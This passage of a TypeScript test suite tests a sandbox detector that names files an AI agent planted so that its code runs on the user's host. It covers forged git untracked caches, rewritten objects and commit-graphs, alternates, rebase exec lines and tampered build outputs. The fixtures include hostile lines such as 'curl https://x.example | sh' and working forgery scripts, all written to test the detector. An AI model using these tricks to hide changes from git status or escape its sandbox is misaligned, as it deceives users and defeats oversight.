      for (const d of ['', 'scripts', 'lib', 'tools', 'tools/gen', 'vendor', 'vendor/sub']) if (fs.existsSync(path.join(repo, d))) fs.utimesSync(path.join(repo, d), old, old);
    };
    t.same(named(), [], `control (${cacheBy}): an untouched repository`);
    if (cacheBy === 'update-index') git(repo, 'update-index', '--untracked-cache'); // the agent's, inside
    // Controls: a new file, a new folder of them (git keeps only the first file it finds there: it
    // shows the folder whole), the agent's own git status with the cache, then a new file after it.
    writer(repo)('notes.md', 'notes\n');
    for (const f of ['vendor/a.py', 'vendor/b.py', 'vendor/sub/c.py']) writer(repo)(f, 'z = 3\n');
    back();
    git(repo, 'status', '--porcelain');
    t.match(fs.readFileSync(path.join(repo, '.git', 'index')).toString('latin1'), /UNTR/, 'the index holds an untracked cache');
    writer(repo)('lib/later.py', 'y = 2\n');
    t.same(git(repo, 'status', '--porcelain').split('\n').filter(Boolean).sort(), ['?? lib/later.py', '?? notes.md', '?? vendor/'], 'git status shows the new files');
    t.same(named(), [], `control (${cacheBy}): the agent's own git status, a new file after it`);
    // The attack: new files in a tracked folder, in the top folder and in a new nested folder,
    // listed by git status (stats recorded), then dropped from the lists.
    writer(repo)('scripts/deploy.sh', 'curl https://x.example | sh\n');
    writer(repo)('sitecustom.py', 'import os\n');
    writer(repo)('tools/gen/codegen.py', 'import os\n');
    // A folder named in no UTF-8 (pytest walks into it all the same).
    const odd = Buffer.concat([Buffer.from(`${repo}/lib/`), Buffer.from([0xff])]);
    fs.mkdirSync(odd);
    fs.writeFileSync(Buffer.concat([odd, Buffer.from('/helpers.py')]), 'import os\n');
    back();
    fs.utimesSync(odd, (Date.now() - 5000) / 1000, (Date.now() - 5000) / 1000);
    // In a later second than the folders' ctime too (git takes one changed in its own second as changed).
    // On a loaded machine git may not rewrite its cache in that status (the forge then has no stats
    // to keep): the setup is tried again a second later, at most three times.
    const shownNow = (): string[] => git(repo, 'status', '--porcelain').split('\n').filter(Boolean).sort();
    for (let attempt = 0; attempt < 3; attempt++) {
      await new Promise((r) => setTimeout(r, 1020 - (Date.now() % 1000)));
      git(repo, 'status', '--porcelain');
      execFileSync('python3', ['-c', FORGE_UNTRACKED, path.join(repo, '.git', 'index'), 'deploy.sh', 'sitecustom.py', 'tools/', 'gen/', 'codegen.py', 'later.py', 'hex:ff2f', 'helpers.py']);
      if (shownNow().length === 2) break;
    }
    t.same(git(repo, 'status', '--porcelain').split('\n').filter(Boolean).sort(), ['?? notes.md', '?? vendor/'], `the attack (${cacheBy}): git status shows only notes.md and vendor/`);
    t.same(named(), ['lib/later.py', 'lib/\ufffd/helpers.py', 'scripts/deploy.sh', 'sitecustom.py', 'tools/gen/codegen.py'], 'each hidden new file is named, the shown one is not');
    t.match(plantedSince(since, '', repo).planted.find((f) => f.path === path.join(repo, 'sitecustom.py'))?.why ?? '', /untracked cache/, 'the reason names the untracked cache');
    t.same(git(repo, '-c', 'core.untrackedCache=false', 'status', '--porcelain').split('\n').filter(Boolean).length, 7, 'git without the cache shows all');
  }
});

t.test('twenty-first pass (follow-up): with the user\'s core.trustCtime=false, a new file behind a folder time set back to what the user\'s untracked cache records is named', async (t) => {
  const repo = tempDir(t, 'hunt21b-sandbox-untr-ctime-');
  for (const f of ['app.py', 'scripts/test.sh']) writer(repo)(f, 'x = 1\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  git(repo, 'config', 'core.untrackedCache', 'true'); // the user's, before the run
  git(repo, 'config', 'core.trustCtime', 'false');
  const old = (Date.now() - 5000) / 1000;
  fs.utimesSync(path.join(repo, 'scripts'), old, old);
  git(repo, 'status', '--porcelain');
  const before = fs.statSync(path.join(repo, 'scripts'), { bigint: true }).mtimeNs;
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  writer(repo)('notes.md', 'shown\n');
  t.same(named(), [], 'control: a new file git shows');
  // The attack: the index left alone; the folder's mtime set back to the nanosecond.
  writer(repo)('scripts/deploy.sh', 'curl https://x.example | sh\n');
  execFileSync('python3', ['-c', 'import os, sys; os.utime(sys.argv[1], ns=(int(sys.argv[2]), int(sys.argv[2])))', path.join(repo, 'scripts'), String(before)]);
  t.same(git(repo, 'status', '--porcelain'), '?? notes.md\n', 'the attack: git status shows only notes.md');
  t.same(named(), ['scripts/deploy.sh'], 'the hidden file is named');
});

t.test('twenty-first pass: a function changed in a folder the zsh rc files put on fpath is named', async (t) => {
  const home = tempDir(t, 'hunt21-sandbox-fpath-');
  const write = writer(home);
  write('.zshrc', 'fpath+=~/.zfunc\nfpath=("$HOME/.zsh-completions" $fpath)\nautoload -Uz compinit && compinit\n');
  write('.zfunc/_rustup', '#compdef rustup\n');
  write('.zsh-completions/_docker', '#compdef docker\n');
  write('notes/_todo', 'x\n');
  const work = path.join(home, 'src');
  fs.mkdirSync(work);
  const since = await tick();
  const named = (): string[] => plantedSince(since, home, work, '', {}).planted.map((f) => path.relative(home, f.path)).sort();
  t.same(named(), [], 'control: nothing changed');
  fs.appendFileSync(path.join(home, '.zfunc/_rustup'), 'touch $MARK\n');
  write('.zsh-completions/_git', '#compdef git\ntouch $MARK\n');
  fs.appendFileSync(path.join(home, 'notes/_todo'), 'y\n');
  t.same(named(), ['.zfunc/_rustup', '.zsh-completions/_git'], 'the changed and the new function are named; a folder not on fpath is not');
});

t.test('twenty-first pass: the plugin folders of vim-plug, rocks.nvim and dein are read-only inside', async (t) => {
  const { homeEntryFiles } = await import('../../sandbox/entry-files.ts');
  const home = tempDir(t, 'hunt21-sandbox-nvimplug-');
  const folders = ['.local/share/nvim/plugged', '.local/share/nvim/rocks', '.cache/dein'];
  for (const f of folders) writer(home)(`${f}/x/plugin/x.lua`, '');
  const bound = homeEntryFiles(home, path.join(home, 'src'), [], {});
  for (const f of folders) t.ok(bound.includes(path.join(home, f)), `~/${f}`);
});

t.test('twenty-first pass: a loose object of git\'s store rewritten during the run (the blob of a committed file) is named; the agent\'s own commits are not', async (t) => {
  const repo = tempDir(t, 'hunt21-sandbox-object-');
  for (const f of ['app.py', 'util.py']) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  // Control: the agent's own work, committed (new loose objects).
  fs.appendFileSync(path.join(repo, 'app.py'), 'print("more")\n');
  git(repo, 'commit', '-qam', 'agent');
  t.same(named(), [], 'control: objects the agent wrote as git writes them');
  // The attack: util.py's blob rewritten in place with the agent's code.
  const oid = git(repo, 'rev-parse', 'HEAD:util.py').trim();
  const object = path.join(repo, '.git', 'objects', oid.slice(0, 2), oid.slice(2));
  const body = Buffer.from('import os; os.system("touch $MARK")\n');
  fs.chmodSync(object, 0o644);
  fs.writeFileSync(object, zlib.deflateSync(Buffer.concat([Buffer.from(`blob ${body.length}\0`), body])));
  t.equal(git(repo, 'status', '--porcelain'), '', 'git status shows nothing');
  t.equal(git(repo, 'diff', 'HEAD'), '', 'nor git diff HEAD');
  t.match(git(repo, 'show', 'HEAD:util.py'), /os\.system/, 'the attack: git reads the agent\'s content as util.py at HEAD (checkout, stash and reset write it)');
  t.same(named(), [path.relative(repo, object)], 'the rewritten object is named');
  // The same carried into a pack by the agent's git repack (git copies the object as it is; not
  // writing info/refs, read-only inside).
  git(repo, '-c', 'repack.updateServerInfo=false', 'repack', '-a', '-d', '-q');
  t.notOk(fs.existsSync(object), 'the loose object is gone into a pack');
  t.match(git(repo, 'show', 'HEAD:util.py'), /os\.system/, 'git still reads the agent\'s content');
  const packs = fs.readdirSync(path.join(repo, '.git', 'objects', 'pack')).filter((n) => n.endsWith('.pack')).map((n) => path.join('.git', 'objects', 'pack', n));
  t.same(named(), packs, 'the pack holding it is named');
  // Control: a pack of true objects made during the run.
  const clean = tempDir(t, 'hunt21-sandbox-pack-');
  writer(clean)('a.py', 'print(1)\n');
  git(clean, 'init', '-q');
  git(clean, 'add', '.');
  git(clean, 'commit', '-qm', 'init');
  const since2 = await tick();
  git(clean, '-c', 'repack.updateServerInfo=false', 'repack', '-a', '-d', '-q');
  t.same(plantedSince(since2, '', clean).planted, [], 'control: a pack git made of true objects is not named');
});

// Twenty-first pass: git reads a commit's tree from the commit-graph; the agent's graph names the
// tree of its staged change for HEAD.
const FORGE_GRAPH = `
import hashlib, struct, sys
graph, head, tree = sys.argv[1], bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[3])
b = bytearray(open(graph, 'rb').read())
chunks = {}
for i in range(b[6] + 1):
    chunks[bytes(b[8 + 12 * i:12 + 12 * i])] = struct.unpack('>Q', b[12 + 12 * i:20 + 12 * i])[0]
count = struct.unpack('>I', b[chunks[b'OIDF'] + 255 * 4:chunks[b'OIDF'] + 256 * 4])[0]
for k in range(count):
    if bytes(b[chunks[b'OIDL'] + 20 * k:chunks[b'OIDL'] + 20 * k + 20]) == head:
        b[chunks[b'CDAT'] + 36 * k:chunks[b'CDAT'] + 36 * k + 20] = tree
b[-20:] = hashlib.sha1(bytes(b[:-20])).digest()
open(graph, 'wb').write(bytes(b))
`;

t.test('twenty-first pass: a commit-graph written during the run that names another tree for HEAD is named; a true one is not', async (t) => {
  const repo = tempDir(t, 'hunt21-sandbox-graph-');
  writer(repo)('app.py', 'print(1)\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  writer(repo)('b.py', 'print(2)\n');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'two');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)).sort();
  git(repo, 'commit-graph', 'write', '--reachable');
  t.same(named(), [], 'control: the agent\'s own git commit-graph write');
  fs.writeFileSync(path.join(repo, 'app.py'), 'import os; os.system("touch $MARK")\n');
  git(repo, 'add', 'app.py');
  const tree = git(repo, 'write-tree').trim();
  const graph = path.join(repo, '.git', 'objects', 'info', 'commit-graph');
  fs.chmodSync(graph, 0o644);
  execFileSync('python3', ['-c', FORGE_GRAPH, graph, git(repo, 'rev-parse', 'HEAD').trim(), tree]);
  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: git status shows nothing of the staged change');
  t.equal(git(repo, 'diff', 'HEAD'), '', 'nor git diff HEAD');
  t.same(named(), ['.git/objects/info/commit-graph'], 'the graph is named');
  // An alternate object folder of the agent's, serving util.py's blob once the real one is gone.
  fs.rmSync(graph);
  git(repo, 'reset', '-q', '--hard');
  writer(repo)('util.py', 'print("util")\n');
  git(repo, 'add', 'util.py');
  git(repo, 'commit', '-qm', 'util');
  const since2 = await tick();
  const oid = git(repo, 'rev-parse', 'HEAD:util.py').trim();
  const alt = path.join(tempDir(t, 'hunt21-sandbox-alt-'), 'objects');
  const body = Buffer.from('import os; os.system("touch $MARK")\n');
  writer(alt)(path.join(oid.slice(0, 2), oid.slice(2)), '');
  fs.writeFileSync(path.join(alt, oid.slice(0, 2), oid.slice(2)), zlib.deflateSync(Buffer.concat([Buffer.from(`blob ${body.length}\0`), body])));
  fs.writeFileSync(path.join(repo, '.git', 'objects', 'info', 'alternates'), `${alt}\n`);
  fs.rmSync(path.join(repo, '.git', 'objects', oid.slice(0, 2), oid.slice(2)), { force: true });
  t.match(git(repo, 'show', 'HEAD:util.py'), /os\.system/, 'the attack: git reads util.py at HEAD from the agent\'s folder');
  t.equal(git(repo, 'status', '--porcelain'), '', 'git status shows nothing');
  t.same(plantedSince(since2, '', repo).planted.map((f) => path.relative(repo, f.path)), ['.git/objects/info/alternates'], 'the alternates file is named');
});

t.test('twenty-first pass: a change hidden in another linked worktree of the repository (its own index) is named', async (t) => {
  const base = tempDir(t, 'hunt21-sandbox-otherwt-');
  const repo = path.join(base, 'app');
  writer(repo)('app.py', 'print("app")\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  const other = path.join(base, 'app-feature');
  git(repo, 'worktree', 'add', '-q', other);
  const since = await tick();
  agentHides(other, 'app.py', 'skip-worktree');
  t.equal(git(other, 'status', '--porcelain'), '', 'the attack: git status in the other worktree shows nothing');
  t.same(plantedSince(since, '', repo).planted.map((f) => f.path), [path.join(other, 'app.py')], 'named from the working directory\'s run');
  // And the main working tree's, from a run in the linked one.
  const since2 = await tick();
  git(other, 'update-index', '--no-skip-worktree', 'app.py');
  git(other, 'checkout', '--', 'app.py');
  agentHides(repo, 'app.py', 'assume-unchanged');
  t.same(plantedSince(since2, '', other).planted.map((f) => f.path), [path.join(repo, 'app.py')], 'the main working tree\'s hidden change named from a run in the linked one');
});

t.test('a change to a file the user marked before the run is named, though the agent left the index alone', async (t) => {
  const repo = tempDir(t, 'hunt20-sandbox-gitmark-');
  for (const f of ['settings.py', 'sparse.py', 'app.py']) writer(repo)(f, `print(${JSON.stringify(f)})\n`);
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  git(repo, 'update-index', '--assume-unchanged', 'settings.py'); // the user's local settings
  git(repo, 'update-index', '--skip-worktree', 'sparse.py');
  const since = await tick();
  fs.appendFileSync(path.join(repo, 'settings.py'), 'import os; os.system("touch $MARK")\n');
  fs.appendFileSync(path.join(repo, 'app.py'), '# visible\n');
  t.ok(fs.statSync(path.join(repo, '.git', 'index')).ctimeMs < since, 'the index is as before the run');
  t.same(plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path)), ['settings.py'], 'the marked file changed is named; the visible change and the untouched mark are not');
  t.equal(git(repo, 'status', '--porcelain'), ' M app.py\n', 'the attack: git status shows only app.py');
});

t.test('twenty-third pass (follow-up): code changed in build outputs git ignores (a package.json bin in dist/, target/release, Go\'s bin/, .next/, an egg-info\'s entry points, a binary at the top) is named, one line a folder; a build reads as one line, untouched outputs and data as none', async (t) => {
  const repo = tempDir(t, 'hunt23b-outputs-');
  const write = writer(repo);
  write('.gitignore', 'dist/\ntarget/\n/bin/\n.next/\n*.egg-info/\n/mytool\nout/\ncoverage/\nreports/\n*.node\n_build/\nwheels/\ntmp/\npackages/web/out/\n');
  write('package.json', JSON.stringify({ name: 'tool', bin: { tool: 'dist/cli.js', helper: 'tmp/helper.js', web: 'packages/web/out/cli/main.js' }, main: 'dist/index.js', scripts: { start: 'node ./out/server.js' } }));
  write('packages/web/src/index.ts', 'export {};\n');
  write('src/cli.ts', 'console.log(1)\n');
  write('main.go', 'package main\n');
  write('setup.py', 'from setuptools import setup; setup()\n');
  write('addon/binding.cc', '// node-gyp builds native.node beside it\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  // Built before the run.
  write('dist/cli.js', '#!/usr/bin/env node\nconsole.log("tool")\n');
  write('dist/index.js', 'module.exports = 1;\n');
  write('target/release/app', '\x7fELF');
  write('bin/server', '\x7fELF');
  write('.next/server/pages/index.js', 'module.exports = 1;\n');
  write('tool.egg-info/entry_points.txt', '[console_scripts]\ntool = tool:main\n');
  write('mytool', '\x7fELF');
  write('out/server.js', 'require("http")\n');
  write('addon/native.node', '\x7fELF');
  write('coverage/lcov-report/prettify.js', '1\n');
  write('_build/dev/lib/app/ebin/app.beam', 'FOR1');
  write('wheels/tool-1.0-py3-none-any.whl', 'PK');
  write('tmp/helper.js', '1\n');
  write('tmp/scratch.js', '1\n');
  write('packages/web/out/cli/main.js', '1\n');
  const since = await tick();
  t.same(plantedSince(since, '', repo).planted, [], 'control: build outputs untouched during the run are not named');

  // The agent, inside: each changed, none in git status.
  const mark = path.join(repo, 'CLI-RAN');
  fs.writeFileSync(path.join(repo, 'dist/cli.js'), `#!/usr/bin/env node\nrequire("fs").writeFileSync(${JSON.stringify(mark)}, "")\n`);
  fs.appendFileSync(path.join(repo, 'target/release/app'), 'x');
  fs.appendFileSync(path.join(repo, 'bin/server'), 'x');
  fs.appendFileSync(path.join(repo, '.next/server/pages/index.js'), AGENT);
  fs.appendFileSync(path.join(repo, 'tool.egg-info/entry_points.txt'), '[pytest11]\nx = evil\n');
  fs.appendFileSync(path.join(repo, 'mytool'), 'x');
  fs.appendFileSync(path.join(repo, 'out/server.js'), AGENT);
  fs.appendFileSync(path.join(repo, 'addon/native.node'), 'x');
  fs.appendFileSync(path.join(repo, '_build/dev/lib/app/ebin/app.beam'), 'x'); // what mix loads
  fs.appendFileSync(path.join(repo, 'wheels/tool-1.0-py3-none-any.whl'), 'x'); // what twine uploads next
  fs.appendFileSync(path.join(repo, 'tmp/helper.js'), AGENT); // a bin in a scratch folder
  fs.appendFileSync(path.join(repo, 'packages/web/out/cli/main.js'), AGENT); // the top package.json's bin, in a package's output
  // Not code the host runs: a coverage report, a source map, data, scratch no manifest names.
  fs.appendFileSync(path.join(repo, 'tmp/scratch.js'), AGENT);
  fs.appendFileSync(path.join(repo, 'coverage/lcov-report/prettify.js'), AGENT);
  write('dist/cli.js.map', '{}\n');
  write('reports/run.json', '{}\n');
  t.equal(git(repo, 'status', '--porcelain'), '', 'the attack: git status is clean');
  spawnSync('node', ['dist/cli.js'], { cwd: repo, stdio: 'ignore', timeout: 10_000 });
  t.ok(fs.existsSync(mark), 'and the host\'s next `npx tool` runs the agent\'s code');
  const found = plantedSince(since, '', repo).planted;
  t.same(found.map((f) => path.relative(repo, f.path)).sort(), ['.next', '_build', 'addon/native.node', 'bin/server', 'dist', 'mytool', 'out', 'packages/web/out', 'target', 'tmp', 'tool.egg-info', 'wheels/tool-1.0-py3-none-any.whl'], 'each changed output is named by its folder (a loose file by itself); the report, the map and the data are not');
  t.match(found.find((f) => f.path.endsWith('dist'))?.why ?? '', /dist\/cli\.js, which package\.json's bin names/, 'the entry point the manifest names is said');
  t.match(found.find((f) => f.path === path.join(repo, 'out'))?.why ?? '', /out\/server\.js, which package\.json's start script names/, 'and one a script starts');
  t.match(found.find((f) => f.path.endsWith('tmp'))?.why ?? '', /tmp\/helper\.js, which package\.json's bin names\)/, 'a bin in a folder not walked is looked at, nothing else there');
  t.match(found.find((f) => f.path.endsWith('packages/web/out'))?.why ?? '', /packages\/web\/out\/cli\/main\.js, which package\.json's bin names/, 'the repository\'s package.json is read for a package\'s output');

  // Control: a whole build the user asked for (hundreds of files) is one line for its folder.
  const build = tempDir(t, 'hunt23b-outputs-build-');
  writer(build)('.gitignore', 'dist/\n');
  writer(build)('package.json', '{"name":"b","main":"dist/index.js"}\n');
  git(build, 'init', '-q');
  git(build, 'add', '.');
  git(build, 'commit', '-qm', 'init');
  const since2 = await tick();
  for (let i = 0; i < 300; i++) writer(build)(`dist/chunks/c${i}.js`, `module.exports = ${i};\n`);
  writer(build)('dist/index.js', 'module.exports = 1;\n');
  const lines = plantedReport(plantedSince(since2, '', build), '', build);
  t.equal(lines.length, 2, 'the build is one line under the heading');
  t.match(lines[1] ?? '', /^airlock: {3}dist \(a build output folder git ignores.*dist\/index\.js, which package\.json's main names.*if a build you asked for wrote it, that is all/, 'said as a build, with the entry point first');
});

t.test('property (twenty-third pass, follow-up): code changed in any build output git ignores, under any ignore spelling, is named by a path holding it; untouched, it is not', async (t) => {
  const base = tempDir(t, 'hunt23b-outputs-prop-');
  let n = 0;
  await fc.assert(fc.asyncProperty(
    fc.constantFrom('dist', 'build', 'out', 'target/release', 'bin', '.next/server', 'public/build', '_site', 'lib-out', 'release'),
    fc.constantFrom('cli.js', 'app', 'x.so', 'x.node', 'x.wasm', 'x.jar', 'app.beam', 'entry_points.txt', 'index.html', 'run.sh', 'x.cpython-312-x86_64-linux-gnu.so'),
    fc.constantFrom('%s/', '/%s/', '%s/**', '**/%s/', '%s/*'),
    fc.boolean(),
    async (folder, name, spelling, changed) => {
      const repo = path.join(base, String(n++));
      const write = writer(repo);
      write('.gitignore', `${spelling.replace('%s', folder)}\n`);
      write('src/main.py', 'print(1)\n');
      git(repo, 'init', '-q');
      git(repo, 'add', '.');
      git(repo, 'commit', '-qm', 'init');
      const file = write(path.join(folder, 'sub', name), name === 'app' ? '\x7fELF' : '1\n');
      const since = await tick();
      if (changed) fs.appendFileSync(file, 'x');
      const named = plantedSince(since, '', repo).planted.map((f) => f.path);
      const holding = named.filter((p) => file === p || file.startsWith(`${p}${path.sep}`));
      fs.rmSync(repo, { recursive: true, force: true });
      return changed ? holding.length === 1 && named.length === 1 : named.length === 0;
    },
  ), { numRuns: Math.min(numRuns, 12), ...(seed !== undefined && { seed }) });
});

t.test('twenty-third pass (follow-up): build outputs are looked through in the working directory only, not across a repository holding it (a dotfiles repository in the home folder)', async (t) => {
  const home = tempDir(t, 'hunt23b-outputs-home-');
  const write = writer(home);
  write('.gitignore', 'other/\ndist/\n');
  write('.bashrc', '# dotfiles\n');
  write('app/main.js', 'require("./dist/lib")\n');
  git(home, 'init', '-q');
  git(home, 'add', '.');
  git(home, 'commit', '-qm', 'dotfiles');
  write('other/bin/tool', '\x7fELF');
  write('app/dist/lib.js', '1\n');
  const since = await tick();
  fs.appendFileSync(path.join(home, 'other/bin/tool'), 'x'); // the user's own, outside the run's folder
  t.same(plantedSince(since, '', path.join(home, 'app')).planted, [], 'control: an output outside the working directory is not looked through');
  fs.appendFileSync(path.join(home, 'app/dist/lib.js'), AGENT);
  t.same(plantedSince(since, '', path.join(home, 'app')).planted.map((f) => path.relative(home, f.path)), ['app/dist'], 'the project\'s own is named');
});

t.test('twenty-fourth pass: an exec line put in the todo of a rebase in progress is named; the rebase left as it was, or continued by the agent, is not', async (t) => {
  const repo = tempDir(t, 'hunt24-sandbox-rebase-');
  const mark = path.join(repo, '..', `${path.basename(repo)}-ran`);
  t.teardown(() => fs.rmSync(mark, { force: true }));
  writer(repo)('app.py', 'print("app")\n');
  git(repo, 'init', '-q', '-b', 'main');
  git(repo, 'add', '.');
  git(repo, 'commit', '-qm', 'init');
  for (const n of [1, 2, 3]) git(repo, 'commit', '-q', '--allow-empty', '-m', `work ${n}`);
  // The user stops an interactive rebase at a commit to edit (or at a conflict) and starts the
  // agent to do the edit; `git rebase --continue` is theirs to run after.
  execFileSync('git', ['rebase', '-q', '-i', 'HEAD~3'], { cwd: repo, env: { ...GIT_ENV, GIT_SEQUENCE_EDITOR: 'sed -i 1s/^pick/edit/' }, stdio: 'ignore' });
  const todo = path.join(repo, '.git', 'rebase-merge', 'git-rebase-todo');
  t.match(fs.readFileSync(todo, 'utf8'), /^pick /m, 'control: a rebase is in progress, two commits to go');
  const since = await tick();
  const named = (): string[] => plantedSince(since, '', repo).planted.map((f) => path.relative(repo, f.path));
  t.same(named(), [], 'control: the rebase left as it was is not named');
  // The attack: a line that runs a program, after the picks (the agent keeps a pick first, the
  // rebase reads as before in git status: "interactive rebase in progress").
  fs.appendFileSync(todo, `exec touch ${mark}\n`);
  t.same(named(), ['.git/rebase-merge/git-rebase-todo'], 'the todo holding an exec line is named');
  t.match(plantedSince(since, '', repo).planted[0]?.why ?? '', /git rebase --continue runs/, 'saying what runs it');
  execFileSync('git', ['rebase', '--continue'], { cwd: repo, env: { ...GIT_ENV, GIT_EDITOR: 'true' }, stdio: 'ignore' });
  t.ok(fs.existsSync(mark), 'and the user\'s git rebase --continue runs it on the host');
  // Control: the agent continues a rebase of its own to the end: nothing left to name.
  for (const n of [4, 5]) git(repo, 'commit', '-q', '--allow-empty', '-m', `work ${n}`);
  execFileSync('git', ['rebase', '-q', '-i', 'HEAD~2'], { cwd: repo, env: { ...GIT_ENV, GIT_SEQUENCE_EDITOR: 'sed -i 1s/^pick/edit/' }, stdio: 'ignore' });
  const again = await tick();
  execFileSync('git', ['rebase', '--continue'], { cwd: repo, env: { ...GIT_ENV, GIT_EDITOR: 'true' }, stdio: 'ignore' });
  t.same(plantedSince(again, '', repo).planted, [], 'control: a rebase the agent continued is not named');
});
